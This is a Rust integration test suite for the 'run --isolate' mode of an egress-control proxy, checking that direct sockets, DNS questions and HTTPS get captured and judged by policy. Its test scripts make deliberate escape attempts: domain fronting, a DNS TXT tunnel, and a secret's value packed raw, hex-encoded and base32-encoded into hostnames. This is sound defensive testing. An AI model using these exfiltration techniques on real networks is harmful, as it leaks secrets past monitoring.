//! `run --isolate`: inside, the proxy is the only way out, and everything
//! goes to it — what uses the proxy variables, and what ignores them
//! (captured, protocol `transparent`), and every DNS question (the policy
//! DNS server, protocol `dns`). Skipped, with the reason printed, where this
//! system refuses unprivileged user and network namespaces — unless
//! `PORTCULLIS_ISOLATE_REQUIRED=1` (CI sets it).

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::print_stdout
)]

mod common;

use std::process::Stdio;

use common::*;

/// Whether the bridge said capture is refused here (the kernel allows the
/// namespaces but not nftables or a mount namespace): those tests are
/// skipped, with the reason printed — unless isolation is required (CI).
fn capture_refused(stderr: &str) -> bool {
    let refused = stderr.contains("captures only what uses the proxy variables here");
    if refused {
        let required = std::env::var("PORTCULLIS_ISOLATE_REQUIRED").is_ok_and(|v| v == "1");
        assert!(
            !required,
            "capture is refused here, and isolation is required: {stderr}"
        );
        println!("skipped: capture is refused here: {stderr}");
    }
    refused
}

async fn isolated(script: &str) -> (Option<i32>, String, String) {
    output(portcullis().args([
        "run",
        "--isolate",
        "--allow",
        "127.0.0.1",
        "--allow",
        "ok.test",
        "--resolve",
        "ok.test=127.0.0.1",
        "--allow-local-binding",
        "--",
        "sh",
        "-c",
        script,
    ]))
    .await
}

#[tokio::test]
async fn inside_every_way_out_goes_through_the_policy() {
    if !namespaces_available().await {
        return;
    }
    let origin = origin().await;
    let port = origin.addr.port();
    let script = format!(
        r#"
curl -s http://127.0.0.1:{port}/through; echo
curl -s --proxy "$PORTCULLIS_SOCKS_URL" http://ok.test:{port}/socks; echo
curl -s -m 5 --noproxy '*' http://127.0.0.1:{port}/direct; echo
curl -s -m 5 --noproxy '*' -o /dev/null -w "refused-%{{http_code}}" http://127.0.0.2:{port}/direct; echo
python3 -c 'import socket
s = socket.socket(); s.settimeout(5)
try:
    s.connect(("127.0.0.3", {port})); s.sendall(b"x"); print("raw-open" if s.recv(1) else "raw-closed")
except OSError as e:
    print("raw-failed")'
curl -s -o /dev/null -w "%{{http_code}}\n" http://refused.test/
echo "udp-$PORTCULLIS_SOCKS_UDP"
exit 7
"#
    );
    let (code, stdout, stderr) = isolated(&script).await;
    if capture_refused(&stderr) {
        return;
    }
    let lines: Vec<&str> = stdout.lines().collect();
    assert_eq!(lines.first(), Some(&"hello /through"), "{stdout}{stderr}");
    assert_eq!(
        lines.get(1),
        Some(&"hello /socks"),
        "SOCKS5 through the bridge: {stdout}{stderr}"
    );
    assert_eq!(
        lines.get(2),
        Some(&"hello /direct"),
        "curl --noproxy '*' to an allowed address is captured and let through: {stdout}{stderr}"
    );
    // Refused, and told so in HTTP (the listener's 403), never reaching
    // the origin (counted below).
    assert_eq!(
        lines.get(3),
        Some(&"refused-403"),
        "curl --noproxy '*' to a refused address gets the refusal: {stdout}"
    );
    assert_ne!(
        lines.get(4),
        Some(&"raw-open"),
        "a raw socket to a refused address must not reach the origin: {stdout}"
    );
    assert_eq!(lines.get(5), Some(&"403"), "{stdout}");
    assert_eq!(lines.get(6), Some(&"udp-off"), "{stdout}");
    assert_eq!(code, Some(7), "the command's exit code: {stderr}");
    assert!(
        stderr.contains("portcullis: refused refused.test:80 ×1"),
        "the refusal summary: {stderr}"
    );
    assert!(
        stderr.contains("portcullis: refused 127.0.0.2:") && stderr.contains("(transparent)"),
        "the captured refusal is said: {stderr}"
    );
    // Only the three allowed requests reached the origin: refused
    // attempts never connected.
    assert_eq!(
        origin.connections.load(std::sync::atomic::Ordering::SeqCst),
        3
    );
}

#[tokio::test]
async fn node_fetch_goes_through_the_policy_without_proxy_support() {
    if !namespaces_available().await {
        return;
    }
    if tokio::process::Command::new("node")
        .arg("--version")
        .stdout(Stdio::null())
        .status()
        .await
        .is_err()
    {
        println!("skipped: node is not installed");
        return;
    }
    let origin = origin().await;
    let port = origin.addr.port();
    // node before 24 ignores the proxy variables: its fetch resolves the
    // name through the policy DNS server and is captured.
    let fetch = |url: String| {
        format!("NODE_USE_ENV_PROXY= node -e 'fetch(\"{url}\").then(r => r.text()).then(t => console.log(t), () => console.log(\"unreachable\"))'")
    };
    let script = format!(
        "{}; {}",
        fetch(format!("http://ok.test:{port}/node")),
        fetch(format!("http://refused.test:{port}/node"))
    );
    let (_, stdout, stderr) = isolated(&script).await;
    if capture_refused(&stderr) {
        return;
    }
    let lines: Vec<&str> = stdout.lines().collect();
    assert_eq!(lines, ["hello /node", "unreachable"], "{stderr}");
    assert!(
        stderr.contains("portcullis: refused refused.test (DNS)"),
        "the refused name is recorded: {stderr}"
    );
    assert_eq!(
        origin.connections.load(std::sync::atomic::Ordering::SeqCst),
        1
    );
}

#[tokio::test]
async fn a_refused_captured_connection_is_answered_in_its_own_protocol() {
    if !namespaces_available().await {
        return;
    }
    // 127.0.0.2 is a local address nothing allows: refused at the
    // connection, before any byte goes anywhere.
    let origin = origin().await;
    let port = origin.addr.port();
    let node = tokio::process::Command::new("node")
        .arg("--version")
        .stdout(Stdio::null())
        .status()
        .await
        .is_ok_and(|s| s.success());
    let mut script = format!(
        r#"
curl -s -i --noproxy '*' http://127.0.0.2:{port}/plain | head -2 | tr -d '\r'
curl -s --noproxy '*' https://127.0.0.2:{port}/; echo "tls-exit-$?"
"#
    );
    if node {
        // node 20's fetch ignores the proxy variables: captured, and it must
        // settle either way (it used to hang and exit 13).
        script.push_str(&format!(
            r#"
NODE_USE_ENV_PROXY= node --input-type=module -e 'const r = await fetch("http://127.0.0.2:{port}/x"); console.log("node", r.status, (await r.json()).reason)'
NODE_USE_ENV_PROXY= node --input-type=module -e 'try {{ await fetch("https://127.0.0.2:{port}/x"); console.log("node-tls passed") }} catch (e) {{ console.log("node-tls", e.cause?.code) }}'
"#
        ));
    } else {
        println!("note: node is not installed; only curl is checked");
    }
    let (code, stdout, stderr) =
        output(portcullis().args(["run", "--isolate", "--", "sh", "-c", &script])).await;
    if capture_refused(&stderr) {
        return;
    }
    assert_eq!(code, Some(0), "{stderr}");
    let lines: Vec<&str> = stdout.lines().collect();
    assert_eq!(
        lines.first(),
        Some(&"HTTP/1.1 403 Forbidden"),
        "{stdout}{stderr}"
    );
    assert_eq!(
        lines.get(1),
        Some(&"x-proxy-error: blocked-by-allowlist"),
        "{stdout}"
    );
    // curl's 35: the TLS handshake failed on our access_denied alert.
    assert_eq!(lines.get(2), Some(&"tls-exit-35"), "{stdout}");
    if node {
        assert_eq!(
            lines.get(3),
            Some(&"node 403 not_allowed_local"),
            "{stdout}{stderr}"
        );
        assert_eq!(
            lines.get(4),
            Some(&"node-tls ERR_SSL_TLSV1_ALERT_ACCESS_DENIED"),
            "{stdout}{stderr}"
        );
    }
    assert_eq!(
        origin.connections.load(std::sync::atomic::Ordering::SeqCst),
        0
    );
}

#[tokio::test]
async fn run_isolate_in_the_config_isolates_too() {
    if !namespaces_available().await {
        return;
    }
    let origin = origin().await;
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("p.toml");
    std::fs::write(&config, "[run]\nisolate = true\n").unwrap();
    let script = format!(
        "curl -s -m 5 --noproxy '*' -o /dev/null -w '%{{http_code}}' http://{}/; echo; echo \"isolated-$PORTCULLIS_ISOLATED\"",
        origin.addr
    );
    let (code, stdout, stderr) = output(
        portcullis()
            .args(["run", "--config"])
            .arg(&config)
            .args(["--", "sh", "-c", &script]),
    )
    .await;
    assert_eq!(code, Some(0), "{stderr}");
    let lines: Vec<&str> = stdout.lines().collect();
    // Captured and refused (a loopback address nothing allows): the
    // refusal's 403, and the origin never saw it.
    assert_eq!(lines.first(), Some(&"403"), "{stdout}");
    assert_eq!(lines.get(1), Some(&"isolated-1"), "{stdout}");
    assert_eq!(
        origin.connections.load(std::sync::atomic::Ordering::SeqCst),
        0
    );
}

/// `run --isolate` with `secure.test` allowed (on loopback), `flags` and,
/// when given, a config, running `script`.
fn secure_run(
    flags: &[&str],
    config: Option<&std::path::Path>,
    script: &str,
) -> tokio::process::Command {
    let mut command = portcullis();
    command.args(["run", "--isolate"]).args(flags);
    if let Some(config) = config {
        command.arg("--config").arg(config);
    }
    command.args([
        "--allow",
        "secure.test",
        "--resolve",
        "secure.test=127.0.0.1",
        "--allow-local-binding",
        "--",
        "sh",
        "-c",
        script,
    ]);
    command
}

#[tokio::test]
async fn interception_works_inside_unchanged() {
    if !namespaces_available().await {
        return;
    }
    let (origin, pem) = https_origin().await;
    let dir = tempfile::tempdir().unwrap();
    let config = mitm_config(dir.path(), &pem);
    // curl trusts portcullis's CA through the exported variables; the
    // proxy trusts the origin's.
    let url = format!("https://secure.test:{}/", origin.port());
    let script =
        format!("curl -s {url}; echo; curl -s -o /dev/null -w '%{{http_code}}\\n' -X POST {url}");
    let (code, stdout, stderr) = output(&mut secure_run(
        &["--mode", "limited", "--mitm"],
        Some(&config),
        &script,
    ))
    .await;
    assert_eq!(code, Some(0), "{stderr}");
    let lines: Vec<&str> = stdout.lines().collect();
    assert_eq!(
        lines,
        ["secure hello", "403"],
        "a read through, a write refused: {stderr}"
    );
}

/// A UDP socket outside the namespace that counts every datagram: a DNS
/// server that must hear nothing.
async fn listening_dns_server() -> (
    std::net::SocketAddr,
    std::sync::Arc<std::sync::atomic::AtomicUsize>,
    tokio::task::JoinHandle<()>,
) {
    let socket = tokio::net::UdpSocket::bind("127.0.0.1:0").await.unwrap();
    let address = socket.local_addr().unwrap();
    let heard = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let counter = heard.clone();
    let task = tokio::spawn(async move {
        let mut buffer = [0u8; 2048];
        while socket.recv_from(&mut buffer).await.is_ok() {
            counter.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
        }
    });
    (address, heard, task)
}

#[tokio::test]
async fn names_are_answered_only_when_allowed_and_captured_connections_are_recorded() {
    if !namespaces_available().await {
        return;
    }
    let origin = origin().await;
    let port = origin.addr.port();
    let (dns, heard, listener) = listening_dns_server().await;
    let dir = tempfile::tempdir().unwrap();
    let access = dir.path().join("access.jsonl");
    let dns_port = dns.port();
    let script = format!(
        r#"
getent hosts allowed.test | cut -d' ' -f1 | head -1
getent hosts exfil-secret.refused.test; echo "refused-exit-$?"
python3 -c 'import socket
q = bytes.fromhex("abcd01000001000000000000") + b"\x04leak\x07refused\x04test\x00\x00\x01\x00\x01"
for port in (53, {dns_port}):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
    try:
        s.sendto(q, ("127.0.0.1", port)); print("answer", s.recv(512)[3] & 15)
    except OSError as e:
        print("no answer")'
curl -s -m 5 --noproxy '*' http://allowed.test:{port}/captured; echo
curl -s -m 5 -6 --noproxy '*' http://allowed.test:{port}/six; echo
curl -s -m 5 --noproxy '*' http://refused.test:{port}/ >/dev/null; echo "curl-refused-exit-$?"
curl -s -m 5 --noproxy '*' -H 'Host: refused.test' http://allowed.test:{port}/fronted >/dev/null; echo "fronted-exit-$?"
python3 -c 'import socket
s = socket.create_connection(("allowed.test", {port}), timeout=5)
s.sendall(b"GET /raw HTTP/1.0\r\nHost: allowed.test\r\n\r\n"); print(s.recv(64).split(b"\r\n")[0].decode())'
python3 -c 'import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
s.connect(("192.0.2.1", 443)); s.send(b"quic?")
try:
    s.recv(16); print("udp-answered")
except ConnectionRefusedError:
    print("udp-refused")
except OSError:
    print("udp-silent")'
"#
    );
    let (code, stdout, stderr) = output(
        portcullis()
            .args([
                "run",
                "--isolate",
                "--allow",
                "allowed.test",
                "--resolve",
                "allowed.test=127.0.0.1",
                "--resolve",
                "refused.test=127.0.0.1",
                "--allow-local-binding",
                "--access-log",
            ])
            .arg(&access)
            .args(["--", "sh", "-c", &script]),
    )
    .await;
    if capture_refused(&stderr) {
        return;
    }
    listener.abort();
    assert_eq!(code, Some(0), "{stderr}");
    let lines: Vec<&str> = stdout.lines().collect();
    assert!(
        lines
            .first()
            .is_some_and(|a| a.starts_with("198.18.") || a.starts_with("fd70:")),
        "a synthetic address for an allowed name: {stdout}{stderr}"
    );
    assert_eq!(lines.get(1), Some(&"refused-exit-2"), "{stdout}");
    // Our server refuses (rcode 5); the one outside hears nothing.
    assert_eq!(lines.get(2), Some(&"answer 5"), "{stdout}");
    assert_eq!(lines.get(3), Some(&"no answer"), "{stdout}");
    assert_eq!(heard.load(std::sync::atomic::Ordering::SeqCst), 0);
    assert_eq!(lines.get(4), Some(&"hello /captured"), "{stdout}{stderr}");
    assert_eq!(lines.get(5), Some(&"hello /six"), "IPv6: {stdout}{stderr}");
    assert_ne!(lines.get(6), Some(&"curl-refused-exit-0"), "{stdout}");
    assert_ne!(lines.get(7), Some(&"fronted-exit-0"), "{stdout}");
    assert_eq!(lines.get(8), Some(&"HTTP/1.0 200 OK"), "{stdout}{stderr}");
    // Other UDP (QUIC on 443 here) is refused at once, so clients fall
    // back to TCP.
    assert_eq!(lines.get(9), Some(&"udp-refused"), "{stdout}{stderr}");
    assert!(
        stderr.contains("portcullis: refused exfil-secret.refused.test (DNS)")
            && stderr.contains("portcullis: refused refused.test (DNS)"),
        "refused names are said: {stderr}"
    );
    // The host side dialled only the loopback origin: once per allowed
    // request, and once for the fronted one, whose name was allowed but
    // whose bytes never went (closed at its Host header); every captured
    // connection is recorded as such.
    assert_eq!(
        origin.connections.load(std::sync::atomic::Ordering::SeqCst),
        4
    );
    let records = std::fs::read_to_string(&access).unwrap();
    let transparent = records
        .lines()
        .filter(|line| line.contains(r#""protocol":"transparent""#))
        .count();
    // Recorded at open: the four the policy let through, the fronted one
    // (closed later, at its Host header) among them.
    assert_eq!(transparent, 4, "{records}");
    assert!(records.contains(r#""protocol":"dns""#), "{records}");
}

#[tokio::test]
async fn https_is_captured_passed_through_and_intercepted_where_ruled() {
    if !namespaces_available().await {
        return;
    }
    let (origin, pem) = https_origin().await;
    let port = origin.port();
    let dir = tempfile::tempdir().unwrap();
    let origin_pem = dir.path().join("origin.pem");
    std::fs::write(&origin_pem, &pem).unwrap();
    let script = format!(
        r#"
curl -s -m 5 --noproxy '*' --cacert {pem} https://secure.test:{port}/; echo
curl -s -m 5 --noproxy '*' -k --connect-to other.test:{port}:secure.test:{port} https://other.test:{port}/ >/dev/null; echo "sni-exit-$?"
"#,
        pem = origin_pem.display()
    );
    // Full mode, no rules: TLS passes through unseen with the origin's own
    // certificate; an SNI naming another host than the address is closed
    // (even for a client that would accept any certificate: -k).
    let (code, stdout, stderr) = output(&mut secure_run(&[], None, &script)).await;
    if capture_refused(&stderr) {
        return;
    }
    assert_eq!(code, Some(0), "{stderr}");
    let lines: Vec<&str> = stdout.lines().collect();
    assert_eq!(lines.first(), Some(&"secure hello"), "{stdout}{stderr}");
    assert_ne!(lines.get(1), Some(&"sni-exit-0"), "{stdout}");
    // A recorded refusal with its own reason, in the run's summary.
    assert!(
        stderr.contains("refused secure.test")
            && stderr.contains("names another host than the one its address maps to")
            && stderr.contains("\"other.test\""),
        "the fronted connection is closed and said: {stderr}"
    );

    // A host with rules is intercepted: the child trusts our CA (exported),
    // a GET passes and a POST is refused by the rule.
    let config = mitm_config(dir.path(), &pem);
    let mut text = std::fs::read_to_string(&config).unwrap();
    text.push_str("\n[[rules]]\nhost = \"secure.test\"\nallow = [ { methods = [\"GET\"] } ]\n");
    std::fs::write(&config, text).unwrap();
    let script = format!(
        "curl -s -m 5 --noproxy '*' https://secure.test:{port}/; echo; curl -s -m 5 -o /dev/null -w '%{{http_code}}\\n' --noproxy '*' -X POST https://secure.test:{port}/"
    );
    let (code, stdout, stderr) = output(&mut secure_run(&[], Some(&config), &script)).await;
    if capture_refused(&stderr) {
        return;
    }
    assert_eq!(code, Some(0), "{stderr}");
    let lines: Vec<&str> = stdout.lines().collect();
    assert_eq!(lines, ["secure hello", "403"], "{stderr}");
}

#[tokio::test]
async fn captured_plain_http_is_judged_request_by_request_where_it_must_be() {
    if !namespaces_available().await {
        return;
    }
    let origin = origin().await;
    let port = origin.addr.port();
    // Limited mode, no CA: captured plain HTTP is served request by
    // request (a GET passes, a POST is refused with the usual answer, a
    // Host naming another host is a 400); HTTPS cannot be seen, so it is
    // refused and recorded.
    let script = format!(
        r#"
curl -s -m 5 --noproxy '*' http://ok.test:{port}/read; echo
curl -s -m 5 --noproxy '*' -o /dev/null -w '%{{http_code}}\n' -X POST http://ok.test:{port}/write
curl -s -m 5 --noproxy '*' -o /dev/null -w '%{{http_code}}\n' -H 'Host: other.test:{port}' http://ok.test:{port}/fronted
curl -s -m 5 --noproxy '*' -k https://ok.test:{port}/ >/dev/null; echo "https-exit-$?"
"#
    );
    let (code, stdout, stderr) = output(portcullis().args([
        "run",
        "--isolate",
        "--mode",
        "limited",
        "--allow",
        "ok.test",
        "--resolve",
        "ok.test=127.0.0.1",
        "--allow-local-binding",
        "--",
        "sh",
        "-c",
        &script,
    ]))
    .await;
    if capture_refused(&stderr) {
        return;
    }
    assert_eq!(code, Some(0), "{stderr}");
    let lines: Vec<&str> = stdout.lines().collect();
    assert_eq!(lines.first(), Some(&"hello /read"), "{stdout}{stderr}");
    assert_eq!(lines.get(1), Some(&"403"), "{stdout}{stderr}");
    assert_eq!(lines.get(2), Some(&"400"), "{stdout}{stderr}");
    assert_ne!(lines.get(3), Some(&"https-exit-0"), "{stdout}");
    assert!(
        stderr.contains("(transparent)") && stderr.contains("mitm"),
        "the unseen HTTPS is refused and said: {stderr}"
    );
}

/// With `[scan]` on, a DNS question under a wildcard whose labels carry
/// data (a secret's value, hex, base32) is answered `REFUSED` and recorded
/// as `secret_detected` with the labels redacted, while ordinary names
/// under the same wildcard get their address: the question itself is the
/// way out under `--isolate`, and nothing is forwarded either way.
#[tokio::test]
async fn dns_questions_that_carry_data_are_refused_when_scanning() {
    if !namespaces_available().await {
        return;
    }
    let known = "hunter2-very-secret-value";
    let hex: String = known.bytes().map(|b| format!("{b:02x}")).collect();
    let base32 = "mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpi2tkmzy";
    let dir = tempfile::tempdir().unwrap();
    let violations = dir.path().join("violations.jsonl");
    let config = dir.path().join("scan.toml");
    std::fs::write(
        &config,
        format!(
            "[network]\nallowed_domains = [\"**.exfil.test\"]\n\n[scan]\naction = \"deny\"\nsecret_env = [\"MY_SECRET\"]\n\n[log]\nviolations_file = {violations:?}\n"
        ),
    )
    .unwrap();
    let script = format!(
        r#"
for name in logs.exfil.test github-production-release-asset-2e65be.exfil.test {known}.exfil.test {hex}.exfil.test; do
  getent hosts "$name" >/dev/null; echo "$name $?"
done
python3 -c 'import socket
label = b"{base32}"
q = bytes.fromhex("abcd01000001000000000000") + bytes([len(label)]) + label + b"\x05exfil\x04test\x00\x00\x10\x00\x01"
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
s.sendto(q, ("127.0.0.1", 53)); print("txt rcode", s.recv(512)[3] & 15)'
"#
    );
    let (code, stdout, stderr) = output(
        portcullis()
            .env("MY_SECRET", known)
            .args(["run", "--isolate", "--config"])
            .arg(&config)
            .args(["--", "sh", "-c", &script]),
    )
    .await;
    if capture_refused(&stderr) {
        return;
    }
    assert_eq!(code, Some(0), "{stderr}");
    for (name, status) in [
        ("logs.exfil.test".to_owned(), 0),
        (
            "github-production-release-asset-2e65be.exfil.test".to_owned(),
            0,
        ),
        (format!("{known}.exfil.test"), 2),
        (format!("{hex}.exfil.test"), 2),
    ] {
        assert!(
            stdout.contains(&format!("{name} {status}\n")),
            "{name} should exit {status}:\n{stdout}\n{stderr}"
        );
    }
    // A TXT question (the classic DNS tunnel) is refused as REFUSED (5).
    assert!(stdout.contains("txt rcode 5"), "{stdout}\n{stderr}");
    let recorded = std::fs::read_to_string(&violations).unwrap();
    let dns: Vec<&str> = recorded
        .lines()
        .filter(|line| line.contains(r#""protocol":"dns""#))
        .collect();
    assert!(
        dns.iter()
            .any(|line| line.contains("known:MY_SECRET in the host name")),
        "{recorded}"
    );
    assert!(
        dns.iter().any(|line| line.contains("encoded_hostname")),
        "{recorded}"
    );
    assert!(
        dns.iter()
            .all(|line| line.contains("secret_detected") && line.contains("{redacted}.exfil.test")),
        "{recorded}"
    );
    for text in [&recorded, &stderr] {
        for value in [known, hex.as_str(), base32] {
            assert!(!text.contains(value), "{value} in {text}");
        }
    }
}
